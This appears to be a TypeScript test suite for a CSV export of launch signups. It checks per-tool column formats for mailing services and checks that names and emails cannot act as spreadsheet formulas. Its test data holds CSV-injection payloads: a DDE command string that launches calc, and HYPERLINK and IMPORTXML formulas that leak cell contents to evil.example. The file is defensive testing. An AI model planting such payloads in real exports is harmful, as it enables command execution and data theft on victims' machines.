import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { MailingTool } from '../contract/mailing-tools';
import type { LaunchSignup } from '../contract/signup-schemas';
import { signupRequestSchema } from '../contract/signup-schemas';
import { csvHeader, csvRows } from './csv';

const signup = (email: string, name?: string): LaunchSignup => ({
  email,
  ...(name !== undefined && { name }),
  signedUpAt: '2025-09-20T12:00:00.000Z',
  discountPercent: 20,
  notificationStatus: 'pending',
});

/** Parses a file like another program that splits cells at `delimiter`. */
const read = (csv: string, delimiter = ','): string[][] =>
  parse(csv, { bom: true, delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true });

const namesOf = (names: readonly string[]) =>
  read(csvHeader() + csvRows(names.map((name, n) => signup(`${n}@example.com`, name))))
    .slice(1)
    .map(([, name]) => name);

const COMMAND = "cmd|'/c calc'!A1";
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const HOSTILE_NAMES = [
  ...SIGNS.map((sign) => `${sign}${COMMAND}`),
  ...SIGNS.map((sign) => `${sign}1`),
  ...SIGNS.map((sign) => `Ada;${sign}${COMMAND}`),
  ...SIGNS.map((sign) => `Ada; ${sign}1+1;b`),
  ...SIGNS.map((sign) => `Ada\t${sign}1+1`),
  `\t=${COMMAND}`,
  '\tAda',
  `\r=${COMMAND}`,
  `\u0000=${COMMAND}`,
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  `@SUM(1+1)*${COMMAND}`,
  'Ada;"=1+1"',
  `Ada;'=1+1`,
  'Ada";=1+1;"',
  ';;=1+1',
  '=1+1,=2+2',
  '+45 12 34 56 78',
];
const HOSTILE_EMAILS = [
  '=cmd@example.com',
  '+1@example.com',
  '-1@example.com',
  "=1+1|'x'!a@example.com",
  '＝1@example.com',
];

const HONEST_NAMES = [
  'Søren Ærø Ågård',
  'Zoë "Zed" O’Neil',
  "'t Hooft",
  'Smith, John',
  'Smith; John',
  '"quoted"',
  'a""b',
  '007',
  '0045',
  '1e5',
  '2025-09-20',
  'Ada =1',
  'Ada - Bob; Carl',
  'Jean-Luc',
  'a@b',
  'שלום עולם',
  'مرحبا',
  '名前',
  '👩‍👩‍👧 Family',
  'e\u0301clair',
  'line\u2028separator',
  '#N/A',
  'TRUE',
  'x'.repeat(200),
];

const isFormula = (cell: string) =>
  /^[\s"]*[=+\-@＝＋－＠]/.test(cell) || ['\t', '\r', '\0'].some((sign) => cell.startsWith(sign));

describe('csvRows', () => {
  it('writes no formula for any hostile cell', () => {
    const csv = csvRows([
      ...HOSTILE_NAMES.map((name, n) => signup(`${n}@example.com`, name)),
      ...HOSTILE_EMAILS.map((email) => signup(email, 'Ada')),
    ]);
    expect(read(csv)).toHaveLength(HOSTILE_NAMES.length + HOSTILE_EMAILS.length);
    expect(read(csv).flat().filter(isFormula)).toEqual([]);
  });

  it('writes no formula for a spreadsheet that splits at semicolons or tabs', () => {
    for (const name of HOSTILE_NAMES) {
      for (const delimiter of [';', '\t']) {
        const cells = csvRows([signup('a@example.com', name)]).split(delimiter);
        expect(cells.filter(isFormula)).toEqual([]);
      }
    }
    for (const email of HOSTILE_EMAILS) expect(isFormula(csvRows([signup(email)]))).toBe(false);
  });

  it('writes every honest name unchanged, and an apostrophe before a formula', () => {
    expect(namesOf([...HONEST_NAMES, '=1+1', 'Ada;=1'])).toEqual([...HONEST_NAMES, "'=1+1", "'Ada;'=1"]);
  });

  it('writes every cell that the contract accepts unchanged, or guarded', () => {
    const name = fc.string({ unit: 'binary', maxLength: 60 });
    fc.assert(
      fc.property(fc.emailAddress(), name, (email, typed) => {
        const sent = signupRequestSchema.safeParse({ email, name: typed });
        if (!sent.success) return;
        const { name = '' } = sent.data;
        const [row = []] = read(csvRows([signup(email, name)]));
        expect(row.filter(isFormula)).toEqual([]);
        if (!row[1]?.startsWith("'")) expect(row[1]).toBe(name);
      }),
      { numRuns: 1000 },
    );
  });

  it('writes lines with CRLF, after a header with a byte order mark', () => {
    const csv = csvHeader() + csvRows([signup('a@example.com', 'Ada, "A"'), signup('b@example.com')]);
    expect(csv).toBe(
      [
        '\uFEFFemail,name,signup_date,discount_percent,notification_status,source,tag',
        'a@example.com,"Ada, ""A""",2025-09-20T12:00:00.000Z,20,pending,,',
        'b@example.com,,2025-09-20T12:00:00.000Z,20,pending,,',
        '',
      ].join('\r\n'),
    );
    expect(read(csvRows([signup('a@example.com', 'one\ntwo\rthree')]))[0]?.[1]).toBe('one\ntwo\rthree');
  });
});

describe('the columns of a mailing tool', () => {
  it('are those that the tool imports, with a tag of the launch only for those who were promised a discount', () => {
    const ada = signup('ada@example.com', 'Ada Lovelace');
    const late = { ...signup('late@example.com'), discountPercent: 0 };
    const files: Record<MailingTool, string[]> = {
      mailchimp: ['Email Address,First Name', 'ada@example.com,Ada Lovelace', 'late@example.com,'],
      brevo: ['EMAIL,FIRSTNAME', 'ada@example.com,Ada Lovelace', 'late@example.com,'],
      shopify: [
        'First Name,Email,Accepts Email Marketing,Tags',
        'Ada Lovelace,ada@example.com,yes,launch-signup',
        ',late@example.com,yes,newsletter',
      ],
      listmonk: [
        'email,name,attributes',
        'ada@example.com,Ada Lovelace,"{""discount_percent"":20}"',
        'late@example.com,,"{""discount_percent"":0}"',
      ],
      klaviyo: [
        'Email,First Name,Discount Percent',
        'ada@example.com,Ada Lovelace,20',
        'late@example.com,,0',
      ],
      kit: [
        'email,first_name,tags',
        'ada@example.com,Ada Lovelace,launch-signup',
        'late@example.com,,newsletter',
      ],
      mailerlite: ['Email,Name', 'ada@example.com,Ada Lovelace', 'late@example.com,'],
    };
    for (const tool of Object.keys(files) as MailingTool[])
      expect(csvHeader(tool) + csvRows([ada, late], tool)).toBe(`${files[tool].join('\r\n')}\r\n`);
    expect(csvRows([{ ...ada, discountPercent: 1 }], 'kit')).toContain('launch-signup');
  });

  it('have every cell unchanged, because no spreadsheet reads them', () => {
    for (const name of HOSTILE_NAMES)
      expect(read(csvRows([signup('+1@example.com', name)], 'brevo'))).toEqual([['+1@example.com', name]]);
  });
});
